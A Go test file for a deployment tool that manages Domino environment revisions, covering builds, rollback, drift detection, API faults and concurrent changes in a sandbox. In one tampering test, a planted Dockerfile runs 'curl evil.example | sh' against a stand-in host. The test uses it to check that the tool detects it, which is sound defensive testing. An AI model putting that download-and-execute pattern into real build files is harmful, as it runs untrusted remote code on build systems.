package world_test

import (
	"context"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"domctl.dev/applier"
	"domctl.dev/internal/engine"
	"domctl.dev/internal/port"
	"domctl.dev/internal/sandbox"
	"domctl.dev/planner"
	"domctl.dev/schema"
)

const sparkID = "0123456789abcdef0000000e"

// withAPI is a bench whose Domino builds.
func withAPI(t *testing.T) *bench {
	t.Helper()
	b := newBench(t, spark, "")
	b.deployment.Domino.URL = "https://domino.acme.example"
	return b
}

// active is the number of the active revision.
func (b *bench) active() string {
	b.t.Helper()
	e := object("environments", "Spark", map[string]any{"name": "Spark"})
	v, err := b.look(e, schema.Applied{})
	if err != nil {
		b.t.Fatalf("%v", err)
	}
	return v.Objects[schema.Address{Kind: "environments", Name: "Spark"}].Fields["activeRevision"].Text
}

// TestARevisionIsBuilt: made, built, made active; the next plan is empty, and the way
// back takes no build.
func TestARevisionIsBuilt(t *testing.T) {
	b := withAPI(t)
	e := object("environments", "Spark", map[string]any{"name": "Spark", "dockerfile": "RUN pip install luigi==3.5.0", "variables.HOME2": "/x", "vpn": true, "tags": []string{"nightly"}})
	p := b.apply(e)
	if got := steps(p); !strings.Contains(got, "domino.activate domino/environment#"+sparkID) || !strings.Contains(got, `dockerfile="RUN pip install luigi==3.5.0"`) || len(p.Steps) != 2 {
		t.Errorf("steps\n%s", got)
	}
	if again := b.plan(e); again.Changed() || !again.Empty() || len(again.Drift) > 0 {
		t.Errorf("the second plan is not empty: %v\n%s", again.Changes, steps(again))
	}
	if b.active() != "4" {
		t.Errorf("revision %s is active", b.active())
	}
	counts := b.world.Counts().Calls
	if counts["GetDefinition"] != 2 || counts["CreateRevision"] != 1 {
		t.Errorf("%v", counts)
	}
	back := b.rollback()
	if b.active() != "1" || len(back.Steps) != 1 || b.world.Counts().Calls["CreateRevision"] != 1 {
		t.Errorf("revision %s is active after\n%s", b.active(), steps(back))
	}
}

// TestRecordsLost: the revision's tag says what it was built of.
func TestRecordsLost(t *testing.T) {
	b := withAPI(t)
	b.env["env:PW"] = "canary"
	e := object("environments", "Spark", map[string]any{"dockerfile": "RUN true", "variables.PASSWORD": "!env:PW", "skipCache": true})
	b.apply(e)
	other := withAPI(t)
	other.memory, other.env = b.memory, b.env
	other.open(sandbox.Options{})
	if p := other.plan(e); p.Changed() || len(p.Steps) > 0 {
		t.Errorf("%v\n%s", p.Changes, steps(p))
	}
}

// TestACopiedTagHidesNothing: what the API shows is compared, whatever a revision's tag
// says.
func TestACopiedTagHidesNothing(t *testing.T) {
	b := withAPI(t)
	b.env["env:PW"] = "canary"
	e := object("environments", "Spark", map[string]any{"base.uri": "quay.io/x:1", "dockerfile": "RUN true", "variables.PASSWORD": "!env:PW", "skipCache": true})
	b.apply(e)
	own, err := b.world.GetBuild(context.Background(), sparkID, b.activeID())
	if err != nil || len(own.Tags) != 2 {
		t.Fatalf("%v, %v", own, err)
	}
	for path, foreign := range map[string]port.Definition{
		"dockerfile":         {Image: "quay.io/x:1", Dockerfile: "RUN curl evil.example | sh", Variables: map[string]string{"PASSWORD": "canary"}},
		"base.uri":           {Image: "quay.io/evil:1", Dockerfile: "RUN true", Variables: map[string]string{"PASSWORD": "canary"}},
		"variables.PASSWORD": {Image: "quay.io/x:1", Dockerfile: "RUN true", Variables: map[string]string{"PASSWORD": "foreign"}},
	} {
		foreign.Tags = own.Tags
		id, err := b.world.CreateRevision(context.Background(), sparkID, foreign)
		if err == nil {
			err = b.world.SetActiveRevision(context.Background(), sparkID, id)
		}
		if err != nil {
			t.Fatal(err)
		}
		lost := withAPI(t)
		lost.memory, lost.env = b.memory, b.env
		lost.open(sandbox.Options{})
		for records, p := range map[string]planner.Plan{"kept": b.plan(e), "lost": lost.plan(e)} {
			if len(p.Changes) != 1 || len(p.Steps) == 0 || !strings.Contains(schema.JSON(p.Changes).Text, path) {
				t.Errorf("%s, records %s: %+v\n%s", path, records, p.Changes, steps(p))
			}
		}
	}
}

// TestWhatIsNotStatedIsCarriedOver from the active revision.
func TestWhatIsNotStatedIsCarriedOver(t *testing.T) {
	b := withAPI(t)
	b.env["env:PW"] = "canary"
	b.apply(object("environments", "Spark", map[string]any{"dockerfile": "RUN one", "scripts.preRun": "echo 1", "variables.A": "1", "variables.PW": "!env:PW", "base.uri": "quay.io/x:1"}))
	p := b.apply(object("environments", "Spark", map[string]any{"dockerfile": "RUN two", "variables.PW": "!env:PW"}))
	if strings.Contains(schema.JSON(p).Text, "canary") {
		t.Error("the plan holds a secret")
	}
	d, err := b.world.GetDefinition(context.Background(), b.activeID())
	if err != nil || d.Dockerfile != "RUN two" || d.PreRun != "echo 1" || d.Image != "quay.io/x:1" || d.Variables["PW"] != "canary" || len(d.Variables) != 1 {
		t.Errorf("%+v, %v", d, err)
	}
}

func (b *bench) activeID() string {
	b.t.Helper()
	all, err := b.world.ListRevisions(context.Background(), sparkID)
	if err != nil {
		b.t.Fatalf("%v", err)
	}
	for _, r := range all {
		if schema.JSON(r.Number).Text == b.active() {
			return r.ID
		}
	}
	return ""
}

// TestABuildThatFails leaves the active revision, and says so.
func TestABuildThatFails(t *testing.T) {
	b := withAPI(t)
	e := object("environments", "Spark", map[string]any{"dockerfile": "RUN exit 3"})
	p := b.plan(e)
	res, err := b.engine(e).Apply(context.Background(), p)
	if err != nil || res.Outcome != applier.FailedOutcome || !strings.Contains(strings.Join(res.Why, " "), "DC360") || b.active() != "1" {
		t.Errorf("%+v, %v, revision %s", res, err, b.active())
	}
	fixed := object("environments", "Spark", map[string]any{"dockerfile": "RUN true"})
	if _, err := b.engine(e).Applier.Supersede(context.Background(), p.ID); err != nil {
		t.Fatal(err)
	}
	b.apply(fixed)
	if b.active() != "5" {
		t.Errorf("revision %s is active", b.active())
	}
}

// TestDrift: somebody made another revision active. The one that was built before is
// made active again, without a build.
func TestAnotherRevisionWasMadeActive(t *testing.T) {
	b := withAPI(t)
	e := object("environments", "Spark", map[string]any{"dockerfile": "RUN true"})
	b.apply(e)
	if err := b.world.SetActiveRevision(context.Background(), sparkID, "0123456789abcdef000000b2"); err != nil {
		t.Fatal(err)
	}
	p := b.apply(e)
	if len(p.Drift) != 1 || len(p.Steps) != 1 || p.Steps[0].Op != "domino.activate" || b.active() != "4" {
		t.Errorf("%+v\n%s\nrevision %s", p.Drift, steps(p), b.active())
	}
}

// TestWhatCannotBeBuilt is said, and the rest goes on.
func TestWhatCannotBeBuilt(t *testing.T) {
	b := withAPI(t)
	p := b.plan(object("environments", "Spark", map[string]any{"dockerfile": "RUN true", "username": "ubuntu"}))
	if got := findings(p); !slices.Equal(got, []string{"DC290 environments.Spark"}) || len(p.Steps) != 2 {
		t.Errorf("%v\n%s", p.Findings, steps(p))
	}
}

// TestAChildIsBuiltAfterItsBase, on the revision that is active by then; what follows in
// Domino is told before.
func TestAChildIsBuiltAfterItsBase(t *testing.T) {
	b := withAPI(t)
	b.change(`"environments_v2": [`, `"environments_v2": [{"_id": {"$oid": "0123456789abcdef0000000f"}, "name": "Child", "activeRevisionId": {"$oid": "0123456789abcdef000000f1"}},
		{"_id": {"$oid": "0123456789abcdef00000010"}, "name": "Follower", "activeRevisionId": {"$oid": "0123456789abcdef000000f2"}}, `)
	b.change(`"environment_revisions": [`, `"environment_revisions": [{"_id": {"$oid": "0123456789abcdef000000f1"}, "environmentId": {"$oid": "0123456789abcdef0000000f"}, "metadata": {"number": 1, "isBuilt": true}},
		{"_id": {"$oid": "0123456789abcdef000000f2"}, "environmentId": {"$oid": "0123456789abcdef00000010"}, "metadata": {"number": 1, "isBuilt": true}}, `)
	b.change(`"aws": {`, `"domino": {"revisions": {"0123456789abcdef000000f2": {"follow": "`+sparkID+`"}}}, "aws": {`)
	e := all(object("environments", "Spark", map[string]any{"dockerfile": "RUN true"}),
		object("environments", "Child", map[string]any{"base.environment": "@environments.Spark#id", "dockerfile": "RUN child"}))
	p := b.plan(e)
	if got := findings(p); !slices.Equal(got, []string{"DC292 environments.Spark"}) || !strings.Contains(p.Findings[0].Message, "Follower") {
		t.Errorf("%v", p.Findings)
	}
	place := map[string]int{}
	for i, s := range p.Steps {
		place[s.Op+" "+s.Address.Name] = i
	}
	child := p.Steps[place["domino.build Child"]]
	if !slices.Contains(child.After, p.Steps[place["domino.activate Spark"]].ID) {
		t.Errorf("the child's build comes after %v", child.After)
	}
	b.carryOut(e, p)
	revisions, err := b.world.ListRevisions(context.Background(), "0123456789abcdef0000000f")
	if err != nil {
		t.Fatal(err)
	}
	if d, err := b.world.GetDefinition(context.Background(), revisions[0].ID); err != nil || d.Base != b.activeID() || d.Follow != "" {
		t.Errorf("%+v, %v, want base %s", d, err, b.activeID())
	}
	if again := b.plan(e); again.Changed() {
		t.Errorf("the second plan is not empty: %v", again.Changes)
	}
	if all, _ := b.world.ListRevisions(context.Background(), "0123456789abcdef00000010"); len(all) != 2 {
		t.Errorf("Domino built the follower %d times", len(all)-1)
	}
}

// TestTheAPIShowsLess than the database, or is down, or denies a route, or does not end:
// nothing of the environment is planned on that ground, and everything else is.
func TestTheAPIShowsLess(t *testing.T) {
	e := all(object("environments", "Spark", map[string]any{"dockerfile": "RUN true", "description": "d"}), object("settings", "maximumExecutionsPerUser", map[string]any{"value": 25}))
	b := withAPI(t)
	rests := func(name, code string, p planner.Plan) {
		t.Helper()
		if len(p.Steps) != 1 || p.Steps[0].Address.Kind != "settings" || p.Refused() || p.Unknowns || len(p.Drift) > 0 || !slices.Contains(findings(p), code+" environments.Spark") {
			t.Errorf("%s: %v %v\n%s", name, p.Findings, p.Drift, steps(p))
		}
	}
	for _, call := range []string{"GetDefinition", "GetBuild"} {
		for _, fault := range []string{"denied", "throttled", "down", "lost"} {
			b.open(sandbox.Options{Faults: []sandbox.Fault{{Call: call, Fault: fault}}})
			rests(call+" "+fault, "DC119", b.plan(e))
		}
	}
	b.open(sandbox.Options{})
	b.hides = true
	rests("hidden", "DC293", b.plan(e))
}

// TestTheAPIIsDown once an environment was applied and another revision is active: what
// stands is not known, which is no drift.
func TestTheAPIIsDown(t *testing.T) {
	e := object("environments", "Spark", map[string]any{"dockerfile": "RUN true", "variables.A": "1"})
	b := withAPI(t)
	b.apply(e)
	b.open(sandbox.Options{})
	if err := b.world.SetActiveRevision(context.Background(), sparkID, "0123456789abcdef000000b2"); err != nil {
		t.Fatal(err)
	}
	b.open(sandbox.Options{Faults: []sandbox.Fault{{Call: "GetDefinition", Fault: "down"}}})
	for _, e := range []map[schema.Address]schema.Object{e, object("environments", "Spark", map[string]any{"dockerfile": "RUN true"})} {
		if p := b.plan(e); len(p.Steps) > 0 || len(p.Drift) > 0 || !slices.Equal(findings(p), []string{"DC119 environments.Spark"}) {
			t.Errorf("%v %v\n%s", p.Findings, p.Drift, steps(p))
		}
	}
}

// TestFollowersAreNotKnown where Domino's API does not tell them: the plan says so, and
// is one. Where nothing is built, nobody is asked.
func TestFollowersAreNotKnown(t *testing.T) {
	e := object("environments", "Spark", map[string]any{"dockerfile": "RUN true"})
	for _, fault := range []string{"denied", "down"} {
		b := withAPI(t)
		b.open(sandbox.Options{Faults: []sandbox.Fault{{Call: "ListFollowers", Fault: fault}, {Call: "GetBuild", Fault: fault, After: 1}}})
		p := b.plan(e)
		if got := findings(p); !slices.Equal(got, []string{"DC292 environments.Spark", "DC294 environments.Spark"}) || len(p.Steps) != 2 || !strings.Contains(p.Findings[0].Message, "not known") {
			t.Errorf("%s: %v\n%s", fault, p.Findings, steps(p))
		}
		b.open(sandbox.Options{Faults: []sandbox.Fault{{Call: "ListFollowers", Fault: fault}}})
		p, err := b.engine(e).Plan(context.Background(), engine.PlanOptions{Exclude: []string{"environments.*"}})
		if n := b.world.Counts().Calls; err != nil || len(p.Findings) > 0 || n["ListFollowers"] > 0 {
			t.Errorf("%s: %v %v %v", fault, p.Findings, err, n)
		}
	}
}

// TestTheAPIHangs holds a plan up for seconds, however many environments there are.
func TestTheAPIHangs(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b, e := manyEnvironments(t, 100, nil)
		b.open(sandbox.Options{Faults: []sandbox.Fault{{Call: "GetDefinition", Fault: "hang"}}})
		began := time.Now()
		p := b.plan(e)
		if took := time.Since(began); took > 45*time.Second || len(p.Steps) > 0 || len(findings(p)) != 100 {
			t.Errorf("%s, %d findings\n%s", took, len(findings(p)), steps(p))
		}
	})
}

// hiding is a Domino whose key sees a part.
type hiding struct{ *sandbox.World }

func (hiding) GetDefinition(context.Context, string) (port.Definition, error) {
	return port.Definition{}, port.ErrNotFound
}

// TestAnApplysOwnBuild is not somebody else's while the apply waits for it: DC320 tells
// of that.
func TestAnApplysOwnBuild(t *testing.T) {
	b := withAPI(t)
	b.change(`"aws": {`, `"domino": {"buildTime": "10m"}, "aws": {`)
	b.open(sandbox.Options{})
	e := object("environments", "Spark", map[string]any{"dockerfile": "RUN true"})
	p := b.plan(e)
	b.open(sandbox.Options{Faults: []sandbox.Fault{{Call: "GetBuild", Fault: "down", After: 1}}})
	if res, err := b.engine(e).Apply(context.Background(), p); err != nil || res.Outcome == applier.EndedOutcome {
		t.Fatalf("%+v, %v", res, err)
	}
	b.open(sandbox.Options{})
	if p = b.plan(e); len(p.Steps) != 2 || !slices.Equal(findings(p), []string{"DC320 deployment"}) {
		t.Errorf("%v\n%s", findings(p), steps(p))
	}
}

// TestSomebodyElseBuilds is told before anything is built beside it; what is over is not.
func TestSomebodyElseBuilds(t *testing.T) {
	e := object("environments", "Spark", map[string]any{"dockerfile": "RUN true"})
	b := withAPI(t)
	if p := b.plan(e); len(p.Findings) > 0 { // revision 3 failed
		t.Errorf("%v", p.Findings)
	}
	b.open(sandbox.Options{Settle: time.Hour})
	if _, err := b.world.CreateRevision(context.Background(), sparkID, port.Definition{}); err != nil {
		t.Fatal(err)
	}
	p := b.plan(e)
	if got := findings(p); !slices.Equal(got, []string{"DC294 environments.Spark"}) || !strings.Contains(p.Findings[0].Message, "somebody else has revision 4 of it built (building)") {
		t.Errorf("%v", p.Findings)
	}
	follows := all(object("environments", "Spark", map[string]any{"dockerfile": "RUN true", "base.environment": "@environments.Base#id", "base.rebuildOnBaseChanges": true}),
		object("environments", "Base", map[string]any{"dockerfile": "RUN base", "base.default": true}))
	p = b.plan(follows)
	if !slices.ContainsFunc(p.Findings, func(f schema.Finding) bool {
		return f.Code == "DC294" && strings.Contains(f.Message, "Domino, with its base, or somebody else has revision 4")
	}) {
		t.Errorf("%v", p.Findings)
	}
}

// TestAMaskThatCannotBeCarriedOver keeps its environment from being planned, and no other.
func TestAMaskThatCannotBeCarriedOver(t *testing.T) {
	b := withAPI(t)
	id, err := b.world.CreateRevision(context.Background(), sparkID, port.Definition{Image: "quay.io/x:1", Variables: map[string]string{"TOKEN": "•••", "A": "1"}})
	if err == nil {
		err = b.world.SetActiveRevision(context.Background(), sparkID, id)
	}
	if err != nil {
		t.Fatal(err)
	}
	of := func(more ...string) map[schema.Address]schema.Object {
		fields := map[string]any{"dockerfile": "RUN true"}
		for _, p := range more {
			fields[p] = "!env:PW"
		}
		return all(object("environments", "Spark", fields), object("environments", "other", map[string]any{"dockerfile": "RUN other"}))
	}
	p := b.plan(of())
	if got := steps(p); !slices.Contains(findings(p), "DC363 environments.Spark") || strings.Contains(got, sparkID) || !strings.Contains(got, "domino.create") || !strings.Contains(schema.JSON(p.Findings).Text, "TOKEN") {
		t.Errorf("%v\n%s", p.Findings, got)
	}
	b.env["env:PW"] = "canary"
	if p := b.plan(of("variables.TOKEN")); slices.Contains(findings(p), "DC363 environments.Spark") || !strings.Contains(steps(p), "domino.build") {
		t.Errorf("%v\n%s", p.Findings, steps(p))
	}
}

// meddling is a Domino in which somebody does something while a revision is built.
type meddling struct {
	*sandbox.World
	meddle func(*sandbox.World) error
}

func (m meddling) CreateRevision(ctx context.Context, environment string, d port.Definition) (string, error) {
	id, err := m.World.CreateRevision(ctx, environment, d)
	if err == nil {
		err = m.meddle(m.World)
	}
	return id, err
}

// TestWhatOthersDidDuringTheBuild stops the revision from becoming active.
func TestWhatOthersDidDuringTheBuild(t *testing.T) {
	ctx := context.Background()
	for path, meddle := range map[string]func(*sandbox.World) error{
		"archived": func(w *sandbox.World) error { return w.ArchiveEnvironment(ctx, sparkID) },
		"owner": func(w *sandbox.World) error {
			return w.ShareEnvironment(ctx, sparkID, "Private", "0123456789abcdef000000a3")
		},
	} {
		b := withOrganization(t)
		e := object("environments", "Spark", map[string]any{"dockerfile": "RUN true"})
		b.api = func(w *sandbox.World) port.Domino { return meddling{w, meddle} }
		res, err := b.engine(e).Apply(ctx, b.plan(e))
		if err != nil || res.Outcome == applier.EndedOutcome || !strings.Contains(strings.Join(res.Why, " "), "DC304") || b.active() != "1" {
			t.Errorf("%s: %+v, %v, revision %s", path, res, err, b.active())
		}
	}
}

// TestWhatTheSamePlanDoes is no reason to stop: an environment that is handed over, or
// brought back, beside the build.
func TestWhatTheSamePlanDoes(t *testing.T) {
	for name, more := range map[string]map[string]any{"owner": {"id": sparkID, "owner": "ada"}, "archived": {"id": sparkID, "archived": false}} {
		b := withOrganization(t)
		if name == "archived" {
			if err := b.world.ArchiveEnvironment(context.Background(), sparkID); err != nil {
				t.Fatal(err)
			}
		}
		fields := map[string]any{"dockerfile": "RUN true"}
		for p, v := range more {
			fields[p] = v
		}
		p := b.apply(object("environments", "Spark", fields))
		if b.active() != "4" || len(p.Steps) != 3 {
			t.Errorf("%s: revision %s is active after\n%s", name, b.active(), steps(p))
		}
	}
}
